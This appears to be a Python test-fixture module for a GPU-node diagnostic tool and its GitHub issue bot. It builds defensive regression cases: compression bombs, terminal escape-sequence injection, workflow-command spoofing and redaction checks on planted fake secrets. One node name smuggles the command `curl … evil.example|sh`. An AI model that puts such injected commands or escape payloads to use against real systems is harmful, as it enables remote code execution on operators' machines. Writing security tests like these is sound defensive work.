    with (d / "device-plugin.log").open("wb") as fh:
        fh.write(PLUGIN_LOG.encode())
        for _ in range(48):
            fh.write(b"\n" * (1 << 20))
    # 48 MiB, 48 million lines: 4.2-4.7 s of CPU on an idle 2-core machine, 6-7 s on a busy or
    # slow one, against the 5 s meant for inputs under 1 MB; a hang would take hours
    return Run(["analyze", str(d), "--format", "json"], [d], cpu_limit_s=10.0)


class _Repeat(io.RawIOBase):
    """`size` bytes of one repeated byte string, read without holding them."""

    def __init__(self, unit: bytes, size: int):
        self.unit, self.left = unit, size

    def readable(self) -> bool:
        return True

    def readinto(self, buf) -> int:
        n = min(len(buf), self.left)
        block = (self.unit * (n // len(self.unit) + 1))[:n]
        buf[:n] = block
        self.left -= n
        return n


@bounded(_verdict("device-unhealthy", "line(s) longer than 1 MiB cut"))
def archive_with_256mib_line(d: Path) -> Run:
    """A 256 KB .tar.gz holding one 256 MiB log line: memory grew with the longest line (~1.1 GB
    peak); now the line is cut to 1 MiB with a warning."""
    d.mkdir(parents=True)
    size = 256 << 20
    with tarfile.open(d / "b.tar.gz", "w:gz", compresslevel=6) as tf:
        for name, text in (("node.yaml", NODE), ("device-plugin.log", PLUGIN_LOG)):
            info = tarfile.TarInfo(name)
            info.size = len(text.encode())
            tf.addfile(info, io.BytesIO(text.encode()))
        info = tarfile.TarInfo("long.log")
        info.size = size
        tf.addfile(info, io.BufferedReader(_Repeat(b"I0815 09:04:51.2 1 a.go:1] x", size)))
    assert (d / "b.tar.gz").stat().st_size < 1 << 20
    return Run(["analyze", str(d / "b.tar.gz"), "--format", "json"], [d])


@bounded(_error("uncompressed size exceeds 4096 MiB at 'sparse.log'"))
def folder_sparse_file_5gib(d: Path) -> Run:
    """A 5 GiB sparse log in a folder (512 KiB of log lines, then a hole: no disk used): folder
    files did not count against --max-bytes, and the hole streamed as one 5 GiB line reached
    10 GB of memory, then exit 3."""
    d.mkdir(parents=True)
    (d / "node.yaml").write_text(NODE)
    with (d / "sparse.log").open("wb") as fh:
        fh.write((PLUGIN_LOG.encode() * 200)[: 512 << 10])
        fh.truncate(5 << 30)
    return Run(["analyze", str(d)], [d])


# ---- lost evidence and misleading errors ----------------------------------------------------
def _compressed_log(fmt: str) -> Callable[[Path], Run]:
    def build(d: Path) -> Run:
        sample = SAMPLES / "nvml-init-error" / "bundle"
        data = (sample / "device-plugin.log").read_bytes()
        if fmt == "xz":
            packed = lzma.compress(data)
        elif fmt == "bz2":
            packed = bz2.compress(data)
        else:
            import zstandard

            packed = zstandard.ZstdCompressor().compress(data)
        files = {"node.yaml": (sample / "node.yaml").read_bytes()}
        files[f"device-plugin.log.{fmt}"] = packed
        return Run(["analyze", str(_bundle(d, files)), "--format", "json"], [d])

    build.__name__ = f"device_plugin_log_{fmt}"
    build.__doc__ = f"""A device-plugin log compressed with {fmt} in a bundle (logrotate exports):
    sniffed as a compressed tar, dropped as corrupt, and the NVML error missed (healthy)."""
    return build


for _fmt in ("xz", "bz2", "zst"):
    bounded(_verdict("plugin-crash-nvml", "nvml-init-failed"))(_compressed_log(_fmt))


@bounded(_error("bzip2 data that expands more than 2,000 times (a compression bomb?)"))
def bzip2_bomb_log(d: Path) -> Run:
    """A 2 KB device-plugin.log.bz2 of 320 MiB of zeros (40 concatenated streams): bzip2, xz and
    zstd expand millions of times where gzip stops at 1,032, so reading them as logs (above)
    needs a bound on the expansion too."""
    one = bz2.compress(b"\0" * (8 << 20))
    return Run(
        ["analyze", str(_bundle(d, {"node.yaml": NODE, "device-plugin.log.bz2": one * 40}))], [d]
    )


@bounded(_error("ran out of space while extracting", "TMPDIR"))
def temporary_folder_full(d: Path) -> Run:
    """A sound 3 MB archive extracted into a 1 MiB tmpfs: reported as 'truncated or corrupt ...
    re-download it'; now the temporary folder that ran out of space is named."""
    d.mkdir(parents=True)
    with tarfile.open(d / "b.tar.gz", "w:gz") as tf:
        noise = random.Random(23).randbytes(3 << 20)
        for name, data in (("noise.bin", noise), ("node.yaml", NODE.encode())):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return Run(["analyze", str(d / "b.tar.gz")], [d / "b.tar.gz"], tmpfs=d / "tmp")


# ---- terminal injection ---------------------------------------------------------------------
TERMINAL_ESCAPES = [
    "\x1b]52;c;aGVsbG8=\x1b\\",  # OSC 52 (writes the clipboard), ended by ST
    "\x1b]8;;https://example.invalid/\x1b\\link\x1b]8;;\x1b\\",  # OSC 8 hyperlink
    "\x1b]0;title\x07",  # OSC ended by BEL
    "\x1bc",  # RIS: resets the terminal
    "\x9b31m",  # C1 CSI
    "\x1b[2J\x1b[H",  # CSI: clear the screen
    "ok\x08\x08\x08\r",  # backspaces and a carriage return overwrite what was shown
]


def _evil_log() -> str:
    lines = PLUGIN_LOG.splitlines()
    evil = [
        f"E0815 09:06:2{i}.709851  412873 register.go:96] nvml Init err {seq} after"
        for i, seq in enumerate(TERMINAL_ESCAPES)
    ]
    return "\n".join(lines[:5] + evil + lines[5:]) + "\n"


def _timeline(fmt: str) -> Callable[[Path], Run]:
    def build(d: Path) -> Run:
        bundle = _bundle(d, {"node.yaml": NODE, "device-plugin.log": _evil_log()})
        return Run(["timeline", str(bundle), "--format", fmt], [d])

    build.__name__ = f"timeline_{fmt}_escape_sequences"
    build.__doc__ = f"""`timeline -f {fmt}` printed log lines with OSC sequences ended by ST,
    OSC 52 and 8, RIS, C1 CSI and backspaces intact (only CSI and BEL-ended OSC were stripped)."""
    return build


def _no_escape_left(out) -> None:
    assert out.code in (0, 1, 4), (out.code, out.stderr[-2000:])
    assert "nvml Init err" in out.stdout and "after" in out.stdout


for _fmt in ("text", "csv", "json"):
    bounded(_no_escape_left)(_timeline(_fmt))


@bounded(_code(0, 1, 4))
def analyze_html_of_escape_sequences(d: Path) -> Run:
    """The same log through `analyze -f html` to the terminal."""
    bundle = _bundle(d, {"node.yaml": NODE, "device-plugin.log": _evil_log()})
    return Run(["analyze", str(bundle), "--format", "html"], [d])


@bounded(_code(0, 1, 4))
def analyze_file_name_with_escapes(d: Path) -> Run:
    """A file name given on the command line, printed raw by `analyze` (evidence `file:line`)."""
    d.mkdir(parents=True)
    name = "device-plugin\x1b]52;c;aGk=\x07\x9b31m.log"
    (d / name).write_text(PLUGIN_LOG)
    (d / "node.yaml").write_text(NODE)
    return Run(["analyze", str(d / name), str(d / "node.yaml")], [d])


@bounded(_error("no such file or directory"))
def missing_file_name_with_escapes(d: Path) -> Run:
    """An error message quoting a name from the command line."""
    d.mkdir(parents=True)
    return Run(["analyze", str(d / "gone\x1bc\x1b]0;pwned\x07.log")], [d])


# ---- session 39's review: hangs, a stopped batch, a shell injection, event shapes -------------
def _stdout_has(*words: str, code: tuple[int, ...] = (0, 1, 4)) -> Callable[[Any], None]:
    def check(out) -> None:
        assert out.code in code, (out.code, out.stderr[-2000:])
        assert all(w in out.stdout for w in words), [w for w in words if w not in out.stdout]

    return check


@bounded(_code(0, 1, 4))
def log_of_unterminated_osc_sequences(d: Path) -> Run:
    """A klog line then 200,000 "ESC ]" with no BEL: the escape-sequence pattern read from each
    to the end (quadratic: 65 s for 400 KB)."""
    log = b"I0815 09:04:51.000000 1 main.go:1] start\n" + b"\x1b]" * 200_000 + b"\n"
    return Run(["analyze", str(_bundle(d, {"device-plugin.log": log})), "-f", "json"], [d])


@bounded(_code(0, 1, 4))
def issue_of_unclosed_tags(d: Path) -> Run:
    """An issue of 131,072 "<b" (no ">"): the HTML-tag pattern read from each to the end (75 s
    for 256 KB, and the bot reads every comment of a thread again at each event)."""
    d.mkdir(parents=True)
    (d / "issue.md").write_text("# t\n\n```\nx\n```\n" + "<b" * 131_072)
    return Run(["analyze", str(d / "issue.md"), "-f", "markdown"], [d])


@bounded(_stdout_has("template error", "at most 2,000,000"))
def rule_template_builds_gigabytes(d: Path) -> Run:
    """A user's rule whose title multiplies a string by 2*10^8: 4 GB and more than a minute; a
    constant one was folded at compile time (8.9 GB, then exit 3). Now a rule error."""
    rules = d / "rules"
    rules.mkdir(parents=True)
    (rules / "evil.yaml").write_text(
        "rules:\n  - id: evil-template\n    title: 'Evil {{ node * 200000000 }}'\n"
        "    summary: s\n    severity: warning\n    kind: fault\n    category: runtime-other\n"
        "    link: runtime\n    priority: 1\n    when:\n      fact: node.ready\n"
        "      exists: true\n    explanation: e\n    remediation:\n      - text: t\n"
        "    references: [x]\n"
    )
    bundle = _bundle(d / "b", {"node.yaml": NODE})
    return Run(["analyze", str(bundle), "--rules", str(rules)], [d])


@bounded(_code(0, 1))
def batch_ticket_named_in_latin1(d: Path) -> Run:
    """A ticket archive whose name is not UTF-8 (b"arc\\xfe.tar.gz") beside a good one: the
    whole batch stopped with exit 3 (its digest and its table rows could not be encoded)."""
    tickets = d / "t"
    shutil.copytree(SAMPLES / "healthy-single-gpu" / "bundle", tickets / "good")
    with tarfile.open(os.fsdecode(bytes(tickets) + b"/arc\xfe.tar.gz"), "w:gz") as tf:
        tf.add(SAMPLE / "node.yaml", "node.yaml")
    return Run(["batch", str(tickets), "--out", str(d / "out")], [tickets])


def _node_named_as_command(name: str) -> str:
    return NODE.replace("gpu-node-2", "'" + name + "'")


@bounded(_stdout_has("VALUE-NOT-SHELL-SAFE"))
def node_name_with_a_shell_command(d: Path) -> Run:
    """A node named `gpu-1;curl${IFS}-s${IFS}evil.example|sh;#`: the fixes the bot posts put it
    in `kubectl ... spec.nodeName=...` unquoted. A value that is not a shell word is withheld."""
    evil = "gpu-1;curl${IFS}-s${IFS}evil.example|sh;#"
    node = _node_named_as_command(evil)
    bundle = _bundle(d, {"node.yaml": node, "device-plugin.log": PLUGIN_LOG})
    return Run(["analyze", str(bundle), "-f", "markdown"], [d])


@bounded(_error("no repository"))
def bot_event_repository_a_string(d: Path) -> Run:
    d.mkdir(parents=True)
    event = {"action": "opened", "issue": {"number": 3, "title": "t", "body": "b"}}
    (d / "e.json").write_text(json.dumps({**event, "repository": "octo/x"}))
    return Run(["bot", "--event", str(d / "e.json"), "--dry-run"], [d])


@bounded(_error("not a GitHub event"))
def bot_event_comment_id_out_of_range(d: Path) -> Run:
    d.mkdir(parents=True)
    text = (
        '{"action": "created", "issue": {"number": 3, "title": "t", "body": "b"}, '
        '"repository": {"full_name": "octo/x"}, "comment": {"id": 1e400, "body": "x"}}'
    )
    (d / "e.json").write_text(text)
    return Run(["bot", "--event", str(d / "e.json"), "--dry-run"], [d])


def _no_workflow_command(out) -> None:
    assert out.code == 0, (out.code, out.stderr[-2000:])
    lines = out.stdout.splitlines()
    commands = [ln for ln in lines if ln.startswith("::")]
    token = lines[0].removeprefix("::stop-commands::")
    assert lines[0].startswith("::stop-commands::") and lines[-1] == f"::{token}::", lines[:2]
    assert "::error title=Spoofed::" in "\n".join(lines), "the paste is quoted"
    assert len(commands) == 3, commands  # the pair, and the quoted line between them


@bounded(_no_workflow_command)
def bot_dry_run_quoting_a_workflow_command(d: Path) -> Run:
    """A pasted line `::error title=Spoofed::...` printed by the bot's dry run at the start of a
    line of the Actions log: the runner reads it as a command. Inside Actions the output goes
    between ::stop-commands:: and its token."""
    d.mkdir(parents=True)
    body = (
        "plugin log:\n\n```\n::error title=Spoofed::nvml Init err:  ERROR_LIBRARY_NOT_FOUND\n```\n"
    )
    event = {
        "action": "opened",
        "issue": {"number": 3, "title": "GPU node", "body": body, "user": {"login": "rep"}},
        "repository": {"full_name": "octo/x"},
    }
    (d / "e.json").write_text(json.dumps(event))
    return Run(["bot", "--event", str(d / "e.json"), "--dry-run"], [d], {"GITHUB_ACTIONS": "true"})


@bounded(_error("is a file this run writes"))
def batch_tickets_csv_inside_the_output_folder(d: Path) -> Run:
    """`--tickets OUT/bundles.csv` with `--csv --force`: the CSV the user enriched was replaced."""
    tickets = d / "t"
    shutil.copytree(SAMPLES / "healthy-single-gpu" / "bundle", tickets / "T-1")
    (d / "out").mkdir()
    (d / "out" / "bundles.csv").write_text("ticket,customer\nT-1,ACME\n")
    args = ["batch", str(tickets), "--out", str(d / "out"), "--csv", "--force"]
    return Run(
        [*args, "--tickets", str(d / "out" / "bundles.csv")], [tickets, d / "out" / "bundles.csv"]
    )


@bounded(_stdout_has("5050 code blocks: the first 200 read"))
def issue_of_thousands_of_code_blocks(d: Path) -> Run:
    """A 64 KB comment of 5,050 tiny fences: over the file limit, the whole thread failed (exit
    2) at this event and at every later one. Now the post's first 200 blocks, and a warning."""
    d.mkdir(parents=True)
    (d / "issue.md").write_text(
        "# t\n\n" + "~~~\nx{}\n~~~\n".join("" for _ in range(5051)).format(*range(5050))
    )
    return Run(["analyze", str(d / "issue.md"), "-f", "terminal"], [d])


def batch_tickets_slow_to_extract(d: Path) -> Path:
    """Tickets whose first bundle takes seconds to extract (a 10 MB gzip'd log of 120 MB), for
    the run killed with SIGKILL mid-extraction: its workers' temporary folders stayed (3.3 GB
    once, with a zip bomb in flight)."""
    tickets = d / "tickets"
    (tickets / "a-big").mkdir(parents=True)
    with gzip.open(tickets / "a-big" / "device-plugin.log.gz", "wb", compresslevel=1) as fh:
        for _ in range(6000):
            fh.write(PLUGIN_LOG.encode() * 20)
    shutil.copytree(SAMPLES / "healthy-single-gpu" / "bundle", tickets / "b-small")
    return tickets


# ---- Redaction leaks (issue 23): what `redact` must not let through ---------------------------
# Each builder writes an input under a folder and returns the `redact` arguments that read it and
# the values planted in it; the tests (test_redact.py) run `redact ARGS -o out.tgz` in process
# under the run contract and look for every planted value in every member's content and name.

LeakCase = Callable[[Path], tuple[list[str], list[str]]]
REDACTION_LEAKS: dict[str, LeakCase] = {}
PEM_BODY = "MIIEpAIBAAKCAQEAplantedkeymaterialXYZ0123456789abcdefghijklmnopqrstuv"
PEM_KEY = f"-----BEGIN RSA PRIVATE KEY-----\n{PEM_BODY}\n{PEM_BODY[::-1]}\n-----END RSA PRIVATE KEY-----\n"


def leak(fn: LeakCase) -> LeakCase:
    REDACTION_LEAKS[fn.__name__] = fn
    return fn


def _node_named(name: str) -> str:
    return NODE.replace("gpu-node-2", name)


@leak
def node_name_joined_by_dashes(d: Path) -> tuple[list[str], list[str]]:
    """`device-plugin-NODE.log`, the static pod `kube-apiserver-NODE`, an FQDN followed by -."""
    plugin = "I0815 09:04:51.1 1 main.go:275] Start working on node a800-host-7\n"
    pods = (
        "NAMESPACE     NAME                              READY   STATUS\n"
        "kube-system   kube-apiserver-a800-host-7         1/1     Running\n"
        "kube-system   etcd-dgx7.dc1.acme-gpu.example     1/1     Running\n"
    )
    files = {
        "node.yaml": _node_named("a800-host-7"),
        "device-plugin-a800-host-7.log": plugin,
        "pods.txt": pods,
        "notes.txt": "kubelet of dgx7.dc1.acme-gpu.example-kubelet.log\n",
        "node-2.yaml": _node_named("dgx7.dc1.acme-gpu.example"),
    }
    return [str(_bundle(d, files))], ["a800-host-7", "dgx7.dc1.acme-gpu.example"]


def _plugin_log_alone(d: Path, line: str) -> tuple[list[str], list[str]]:
    log = (
        PLUGIN_LOG.replace("gpu-node-2", "a100-host-3")
        + line
        + ("I0815 09:06:00.1 412873 register.go:204] will patch a100-host-3 annotations\n")
    )
    return [str(_bundle(d, {"device-plugin.log": log}))], ["a100-host-3"]


@leak
def plugin_log_alone_flag_node_name(d: Path) -> tuple[list[str], list[str]]:
    line = 'I0815 09:04:51.201497  412873 flags.go:36] FLAG: --node-name="a100-host-3"\n'
    return _plugin_log_alone(d, line)


@leak
def plugin_log_alone_node_name_env(d: Path) -> tuple[list[str], list[str]]:
    return _plugin_log_alone(d, "NODE_NAME=a100-host-3\n")


@leak
def plugin_log_alone_nodes_forbidden(d: Path) -> tuple[list[str], list[str]]:
    line = (
        'E0815 09:04:51.5 412873 register.go:307] patch node error  nodes "a100-host-3" is '
        'forbidden: User "system:serviceaccount:kube-system:hami-device-plugin" cannot patch\n'
    )
    return _plugin_log_alone(d, line)


@leak
def kubelet_journal_alone(d: Path) -> tuple[list[str], list[str]]:
    journal = (
        "Aug 15 09:04:51 h100-rack2-09 kubelet[2071]: I0815 09:04:51.2 2071 "
        "kubelet_node_status.go:76] Successfully registered node h100-rack2-09\n"
        "Aug 15 09:04:52 h100-rack2-09 systemd[1]: Started kubelet.\n"
    )
    return [str(_bundle(d, {"kubelet.log": journal}))], ["h100-rack2-09"]


@leak
def secret_data_and_base64_key(d: Path) -> tuple[list[str], list[str]]:
    import base64

    key64 = base64.b64encode(PEM_KEY.encode()).decode()
    docker = base64.b64encode(b'{"auths":{"harbor":{"auth":"cm9ib3Q6cGxhbnRlZA=="}}}').decode()
    secret = (
        "apiVersion: v1\nkind: Secret\nmetadata:\n  name: hami-scheduler-tls\n"
        f"data:\n  tls.key: {key64}\n  .dockerconfigjson: {docker}\n"
        "stringData:\n  note: planted-string-data-value\n"
    )
    as_json = json.dumps(
        {"apiVersion": "v1", "data": {"ca.key": "cGxhbnRlZC1qc29uLWRhdGE="}, "kind": "Secret"},
        indent=4,
    )
    values = f"scheduler:\n  admissionWebhook:\n    caKey: {key64[:40]}{key64[40:]}\n"
    files = {"secret.yaml": secret, "secret.json": as_json, "values.yaml": values}
    planted = [key64, docker, "planted-string-data-value", "cGxhbnRlZC1qc29uLWRhdGE=", PEM_BODY]
    return [str(_bundle(d, files))], planted


@leak
def cloud_provider_identities(d: Path) -> tuple[list[str], list[str]]:
    azure = json.dumps(
        {
            "cloud": "AzurePublicCloud",
            "tenantId": "72f988bf-86f1-41af-91ab-2d7cd011db47",
            "subscriptionId": "0d2a5c1e-5b7f-4c1d-9a53-2f1e0c6b7d8e",
            "aadClientId": "9b1b2c3d-0000-4e5f-8a9b-1c2d3e4f5a6b",
            "aadClientSecret": "planted~azure.secret_value",
            "userAssignedIdentityID": "5e6f7a8b-1111-4c2d-9e3f-4a5b6c7d8e9f",
        },
        indent=2,
    )
    gcp = json.dumps(
        {
            "type": "service_account",
            "project_id": "acme-gpu-prod",
            "private_key_id": "3f1c0e9d8b7a6f5e4d3c2b1a0f9e8d7c6b5a4f3e",
            "private_key": PEM_KEY.replace("RSA ", ""),
            "client_email": "hami@acme-gpu-prod.iam.gserviceaccount.com",
            "client_id": "104857630127463518293",
        },
        indent=2,
    )
    pod = "    image: 123456789012.dkr.ecr.us-west-2.amazonaws.com/projecthami/hami:v2.10.0\n"
    aws = 'level=info msg="assumed role" account=210987654321\naws_account_id = 345678901234\n'
    files = {"azure.json": azure, "sa.json": gcp, "pod.txt": pod, "aws.log": aws}
    planted = [
        "72f988bf-86f1-41af-91ab-2d7cd011db47",
        "0d2a5c1e-5b7f-4c1d-9a53-2f1e0c6b7d8e",
        "9b1b2c3d-0000-4e5f-8a9b-1c2d3e4f5a6b",
        "planted~azure.secret_value",
        "5e6f7a8b-1111-4c2d-9e3f-4a5b6c7d8e9f",
        "acme-gpu-prod",
        "3f1c0e9d8b7a6f5e4d3c2b1a0f9e8d7c6b5a4f3e",
        "104857630127463518293",
        PEM_BODY,
        "123456789012",
        "210987654321",
        "345678901234",
    ]
    return [str(_bundle(d, files))], planted


@leak
def helm_registry_credentials(d: Path) -> tuple[list[str], list[str]]:
    values = (
        "global:\n  imagePullSecrets:\n    - registry: harbor.acme-gpu.example\n"
        "      username: robot$hami-planted\n      password: pl4nted-pw\n"
        "registry:\n  auth:\n    username: ops-planted-user\n"
    )
    planted = ["robot$hami-planted", "pl4nted-pw", "ops-planted-user", "harbor.acme-gpu.example"]
    return [str(_bundle(d, {"values.yaml": values}))], planted


@leak
def private_key_across_piece_boundary(d: Path) -> tuple[list[str], list[str]]:
    """A PEM key that starts just before redaction's 16 MiB piece boundary and ends after it."""
    line = "I0815 09:04:51.202341  412873 register.go:204] filler line for the piece boundary\n"
    room = (16 << 20) - 200
    filler = line * (room // len(line))
    log = filler + "x" * (room - len(filler)) + "\n" + PEM_KEY
    return [str(_bundle(d, {"device-plugin.log": log}))], [PEM_BODY, PEM_BODY[::-1]]


@leak
def node_name_in_member_name(d: Path) -> tuple[list[str], list[str]]:
    d.mkdir(parents=True)
    with tarfile.open(d / "bundle.tar.gz", "w:gz") as tf:
        for name, text in (
            ("support/node.yaml", _node_named("b200-node-4")),
            ("support/b200-node-4/kubelet.log", "Start working on node b200-node-4\n"),
            ("support/logs-b200-node-4.txt", "nothing else\n"),
        ):
            data = text.encode()
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return [str(d / "bundle.tar.gz")], ["b200-node-4"]
